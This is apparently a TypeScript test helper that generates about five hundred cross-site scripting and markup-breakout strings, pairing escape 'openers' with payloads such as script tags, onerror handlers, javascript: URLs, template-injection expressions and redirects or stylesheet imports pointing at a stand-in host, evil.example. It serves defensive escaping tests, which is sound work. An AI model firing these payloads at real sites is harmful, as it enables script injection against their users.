/** Texts that break out of markup, style or script where somebody forgot to escape. */
import { existsSync, readFileSync } from "node:fs";

const NAUGHTY = new URL("../../../shared/data/naughty-strings/blns.json", import.meta.url);

const OPENERS = [
  "",
  '"',
  "'",
  "`",
  "-->",
  "</title>",
  "</style>",
  "</script>",
  "</textarea>",
  "]]>",
  "\\",
  '\\"',
  "}",
  "*/",
  "\u2028",
  "<!--",
];
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<a href=javascript:alert(1)>x</a>",
  "<form action=https://evil.example><button>",
  "<meta http-equiv=refresh content=0;url=https://evil.example>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<base href=https://evil.example>",
  "<style>@import 'https://evil.example'</style>",
  "<object data=x><embed src=x>",
  "<input autofocus onfocus=alert(1)>",
  " onmouseover=alert(1) style=position:fixed ",
  "background:url(https://evil.example)",
  "expression(alert(1))",
  "javascript:alert(1)",
  "${alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  ");alert(1);//",
  "<\u0000script>alert(1)</script>",
  "<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#x3c;script&#x3e;alert(1)",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<a xlink:href=javascript:alert(1)>",
  "<ｓcript>alert(1)</ｓcript>",
  "\ud800<script>",
];

/** About five hundred of them, and the list of naughty strings where it is there. */
export function attackTexts(): string[] {
  const made = OPENERS.flatMap((opener) => PAYLOADS.map((payload) => opener + payload));
  if (existsSync(NAUGHTY)) return [...made, ...(JSON.parse(readFileSync(NAUGHTY, "utf8")) as string[])];
  console.warn(`No naughty strings at ${NAUGHTY.pathname}: only our own attack texts are tried.`);
  return made;
}
